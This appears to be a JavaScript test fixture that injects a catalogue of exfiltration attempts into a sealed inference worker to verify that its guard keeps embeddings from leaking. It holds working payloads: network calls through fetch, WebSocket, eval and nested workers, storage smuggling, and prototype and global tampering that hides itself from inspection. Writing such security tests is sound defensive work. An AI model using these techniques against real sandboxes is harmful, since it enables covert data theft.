// biome-ignore-all lint/suspicious/noTemplateCurlyInString: bodies of functions, as text.
// What hostile code inside the sealed worker tries. Each entry is the body of an async function (secret, url, answer): `secret` is an
// embedding as text, `url` a collector's address for this attempt, `answer` the engine's answer, which the attempt may change.

/** Over the network: the collector sees the secret, or for datagrams that there was one at all. */
export const network = {
  fetch: 'await fetch(url + secret)',
  'fetch, no-cors, in the body': "await fetch(url, { method: 'POST', mode: 'no-cors', body: secret })",
  'fetch, kept alive': 'await fetch(url + secret, { keepalive: true })',
  'fetch from the prototype of the scope':
    'await Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, url + secret)',
  XMLHttpRequest: "const request = new XMLHttpRequest(); request.open('GET', url + secret); request.send()",
  WebSocket: "new WebSocket(url.replace('http', 'ws') + secret)",
  EventSource: 'new EventSource(url + secret)',
  WebTransport: "await new WebTransport(udp.replace('stun', 'https') + '/' + secret).ready",
  importScripts: 'importScripts(url + secret)',
  'dynamic import': 'await import(url + secret)',
  'dynamic import of code': 'await import(`data:text/javascript,fetch("${url}${secret}")`)',
  'nested worker from a blob': 'new Worker(URL.createObjectURL(new Blob([`fetch("${url}${secret}")`])))',
  'nested worker from data': 'new Worker(`data:text/javascript,fetch("${url}${secret}")`)',
  'code by new Function': 'new Function(`fetch("${url}${secret}")`)()',
  'code by indirect eval': '(0, eval)(`fetch("${url}${secret}")`)',
  'code by an async function constructor': '(async () => {}).constructor(`await fetch("${url}${secret}")`)()',
  'code by a string timer': 'setTimeout(`fetch("${url}${secret}")`)',
  font: 'await new FontFace("leak", `url(${url}${secret})`).load()',
  'cache filling': "await (await caches.open('leak')).add(url + secret)",
  'streaming compilation': 'await WebAssembly.compileStreaming(fetch(url + secret))',
  'content security policy report': 'await fetch(reported + secret)',
};

/** Into storage that the page's origin shares: the page looks for it there. */
export const storage = {
  'indexed database': `const open = indexedDB.open('leak-idb', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s');
    open.onsuccess = () => open.result.transaction('s', 'readwrite').objectStore('s').put(secret, 'k')`,
  cache: "await (await caches.open('leak-cache')).put('/leak', new Response(secret))",
  'private file system': `const root = await navigator.storage.getDirectory();
    const file = await (await root.getFileHandle('leak', { create: true })).createWritable();
    await file.write(secret); await file.close()`,
  'broadcast channel': "new BroadcastChannel('leak').postMessage(secret)",
  'name of a lock': 'navigator.locks.request(secret, () => new Promise(() => {}))',
};

/** Through the answer: what the page is handed is searched for the secret. */
export const answers = {
  'one more output': 'answer.outcome.value.outputs.push(all[0]); return answer',
  'another output in place of the codes': 'answer.outcome.value.outputs[0] = all[0]; return answer',
  'one more field': 'answer.outcome.value.note = secret; return answer',
  'one more field of a tensor': 'answer.outcome.value.outputs[0].note = secret; return answer',
  'property of an array': 'answer.outcome.value.outputs[0].dims.note = secret; return answer',
  'rest of a larger buffer': `const { data } = answer.outcome.value.outputs[0];
    const room = new Uint8Array(data.byteLength + 1024);
    room.set(new Uint8Array(data.buffer)); for (let i = 0; i < secret.length; i++) room[data.byteLength + i] = secret.charCodeAt(i);
    answer.outcome.value.outputs[0].data = new BigInt64Array(room.buffer, 0, data.length);
    return { outcome: answer.outcome, transfer: [room.buffer] }`,
  'words of an error': "return { outcome: { ok: false, code: 'internal', message: secret }, transfer: [] }",
  'code of an error': "return { outcome: { ok: false, code: secret, message: '' }, transfer: [] }",
  exception:
    'try { queueMicrotask(() => { throw new Error(secret) }) } catch { throw new Error(secret) } return answer',
  'time that was measured': 'answer.outcome.value.milliseconds = secret; return answer',
  'number for a time': 'answer.outcome.value.milliseconds = chosen(secret) / 2 ** 20; return answer',
  'how far a buffer could grow': `const { data } = answer.outcome.value.outputs[0];
    const room = new ArrayBuffer(data.byteLength, { maxByteLength: data.byteLength + chosen(secret) });
    new BigInt64Array(room).set(data);
    answer.outcome.value.outputs[0].data = new BigInt64Array(room); return answer`,
  'numbers that are no codes': `new Uint8Array(answer.outcome.value.outputs[0].data.buffer).set(bytesOf(secret)); return answer`,
};

/** Through the guard's own code, which runs in the same realm: by changing the language that it is written in. */
export const realm = {
  'a method of lists': `const { map } = Array.prototype;
    Array.prototype.map = function (...args) {
      const list = map.apply(this, args);
      return list[0]?.dims ? [partOf(all[0], answer)] : list;
    };
    return answer`,
  'a method of typed arrays': `const arrays = Object.getPrototypeOf(BigInt64Array.prototype);
    const { set } = arrays;
    arrays.set = function (...args) { return set.call(this, this.length > 32 ? bytesOf(secret) : args[0]); };
    const { get } = Object.getOwnPropertyDescriptor(arrays, 'length');
    let reads = 0;
    Object.defineProperty(arrays, 'length', {
      get() { return this instanceof BigInt64Array && reads++ > 0 ? 0 : get.call(this); } });
    return answer`,
  'a function of the language': `const genuine = Number;
    class Extent {
      constructor(value) {
        this.note = secret;
        Object.defineProperty(this, 'valueOf', { value: () => value });
        Object.defineProperty(this, 'toString', { value: () => String(value) });
      }
    }
    globalThis.Number = Object.assign((value) => (value === 1 ? 1 : new Extent(value)), {
      isInteger: () => true, isFinite: genuine.isFinite, isSafeInteger: genuine.isSafeInteger });
    return answer`,
  promises: `const { then } = Promise.prototype;
    const taint = (value) => { if (value?.message) value.message.note = secret; return value; };
    Object.defineProperty(Promise.prototype, 'constructor', { get: () => class {} });
    Promise.prototype.then = function (done, failed) { return then.call(this, (value) => done(taint(value)), failed); };
    return answer`,
  'an accessor of every object': `Object.defineProperty(Object.prototype, 'then', {
      get() { if (this.message && this.transfer) this.message.note = secret; return undefined; } });
    return answer`,
};

/** What a guard looks for cannot be found, once a function of the engine has run before it. */
const hide = `function hide(...names) {
        const { ownKeys } = Reflect;
        Reflect.ownKeys = (holder) => ownKeys(holder).filter((key) => !names.includes(key));
      }`;

/**
 * Through names: what the engine's script declares at its top, and then what it does with an answer. Where guard and engine are one
 * script, functions are there before the guard's first line, and `let` stands before what the guard means.
 */
export const names = {
  'a function in the place of addEventListener': {
    top: `var stolen;
      ${hide}
      function addEventListener(type, listener) {
        hide('hide', 'stolen', 'addEventListener');
        EventTarget.prototype.addEventListener.call(globalThis, type, (event) => {
          stolen = event.ports[0] ?? stolen;
          listener(event);
        });
      }`,
    after: 'stolen?.postMessage(secret); return answer',
  },
  'a function in the place of fetch, which changes the language before it is frozen': {
    top: `var taken;
      ${hide}
      function fetch() {
        hide('hide', 'taken', 'fetch');
        const { map } = Array.prototype;
        Array.prototype.map = function (...args) {
          const list = map.apply(this, args);
          return taken && list[0]?.dims ? [taken] : list;
        };
        return Promise.reject(new TypeError('refused'));
      }`,
    after: 'taken = partOf(all[0], answer); return answer',
  },
  'a function in the place of structuredClone': {
    top: `var taken;
      ${hide}
      function fetch() {
        hide('hide', 'taken', 'fetch', 'structuredClone');
        Number.isInteger = () => true;
        return Promise.reject(new TypeError('refused'));
      }
      function structuredClone(outcome) {
        if (taken && outcome.value?.outputs) {
          const { dims } = outcome.value.outputs[0];
          const extents = () => dims.map((value) => {
            const extent = { note: taken };
            Object.defineProperty(extent, 'valueOf', { value: () => value });
            Object.defineProperty(extent, 'toString', { value: () => String(value) });
            return value === 1 ? 1 : extent;
          });
          outcome.value.outputs[0].dims = Object.defineProperty([...dims], 'map', { value: extents });
        }
        return outcome;
      }`,
    after: 'taken = secret; return answer',
  },
  'another Number': {
    top: `let taken;
      class Extent {
        constructor(value) {
          this.note = taken;
          Object.defineProperty(this, 'valueOf', { value: () => value });
          Object.defineProperty(this, 'toString', { value: () => String(value) });
        }
      }
      let Number = Object.assign((value) => (value === 1 || !taken ? globalThis.Number(value) : new Extent(value)), {
        isInteger: () => true, isFinite: globalThis.Number.isFinite, isSafeInteger: globalThis.Number.isSafeInteger });`,
    after: 'taken = secret; return answer',
  },
  'another Math': {
    top: `let taken;
      let Math = Object.create(globalThis.Math, {
        ceil: { value: (x) => taken ?? globalThis.Math.ceil(x) }, round: { value: (x) => taken ?? globalThis.Math.round(x) } });`,
    after: 'taken = secret; return answer',
  },
};

/** Through what the browser says of a refusal: the policy that a server sends with seal.htm, and who hears of it. */
export const reports = {
  'refused import, reported by a policy': { header: 'Content-Security-Policy', hidden: false },
  'refused import, reported by a policy that only reports': {
    header: 'Content-Security-Policy-Report-Only',
    hidden: false,
  },
  'refused import, reported by a policy that the frame alone gets': { header: 'Content-Security-Policy', hidden: true },
  'refused import, reported by a policy that only reports and that the frame alone gets': {
    header: 'Content-Security-Policy-Report-Only',
    hidden: true,
  },
};

const asFunction = (body) => `async (secret, url, answer, all) => {${body}}`;

/** How a script of the engine ends. */
const endings = {
  module: 'export default start;',
  /** For a guard in the same script. */
  together: 'globalThis.edgyEngine = start;',
  /** For a worker of the page's own. */
  loose: `{
    const handle = start({ almost() {} });
    self.onmessage = async ({ data: { id, operation, request } }) => {
      const { outcome, transfer } = await handle(operation, request);
      self.postMessage({ id, outcome }, transfer);
    };
  }`,
};

/** The engine's module as the body of a function that gives what it exports. */
function asBody(engine) {
  const body = engine.replace(/export\s*\{\s*([\w$]+) as default\s*\};?\s*$/, 'return $1;');
  if (body === engine) throw new Error('The engine no longer ends with its export: adapt worker.mjs');
  return body;
}

/**
 * The engine with attempts in it, for the sealed worker. The first recording sets off the loud ones, over network and storage; every
 * further one has one of the quiet ones, in turn, look after its answer; then the first code is the number of loud attempts that were made.
 * @param {string} engine text of sealed-engine.txt @param {{ url: string, udp: string, reported: string }} collector
 * @param {{ loudly?: Record<string, string>, quietly?: Record<string, string>, top?: string, as?: keyof typeof endings }} [attempts]
 */
export function hostileEngine(engine, { url, udp, reported }, attempts = {}) {
  const { loudly = { ...network, ...storage }, quietly = { ...answers, ...realm }, top = '', as = 'module' } = attempts;
  const entries = (attempts) =>
    Object.entries(attempts).map(([name, body]) => {
      const address = `${url}/leak?attempt=${encodeURIComponent(name)}&d=`;
      return `[${JSON.stringify(address)}, ${asFunction(body)}]`;
    });
  return `${top}
const udp = ${JSON.stringify(udp)};
const reported = ${JSON.stringify(`${reported}?attempt=content%20security%20policy%20report&d=`)};
const hexOf = (secret) => secret.slice('secret-'.length);
const bytesOf = (secret) => globalThis.Uint8Array.from(hexOf(secret).match(/../g), (pair) => globalThis.parseInt(pair, 16));
// Less than the whole: what fits into a number.
const chosen = (secret) => globalThis.parseInt(hexOf(secret).slice(0, 5), 16);
// As many elements as there are codes.
const partOf = (tensor, { outcome }) => {
  const { dims, data } = outcome.value.outputs[0];
  return { type: 'float32', dims, data: tensor.data.slice(0, data.length) };
};
const loud = [${entries(loudly).join(',\n')}];
const quiet = [${entries(quietly).join(',\n')}];
let calls = 0;
let ran = 0;
const startEngine = ((Number, Math) => {${asBody(engine)}})(globalThis.Number, globalThis.Math);
const start = ({ almost }) => {
  const handle = startEngine({ almost });
  return async (operation, request) => {
    if (operation !== 'encode') return handle(operation, request);
    const everything = await handle(operation, { pcm: request.pcm, mel: request.mel });
    if (!everything.outcome.ok) return everything;
    const all = everything.outcome.value.outputs;
    const secret = 'secret-' + Array.from(new Uint8Array(all[0].data.buffer, 0, 32), (b) => b.toString(16).padStart(2, '0')).join('');
    const outputs = request.fetches.map((index) => all[index]);
    const answer = { outcome: { ok: true, value: { ...everything.outcome.value, outputs } }, transfer: [] };
    const call = calls++;
    if (call > 0 && call <= quiet.length) return quiet[call - 1][1](secret, '', answer, all);
    if (call === 0) {
      for (const [address, attempt] of loud) {
        attempt(secret, address, answer, all).catch(() => {});
        ran++;
      }
    }
    // Codes are the one thing that goes out: by them the test learns that every attempt was made.
    if (call > quiet.length) outputs[0].data[0] = BigInt(ran);
    return answer;
  };
};
${endings[as]}
`;
}
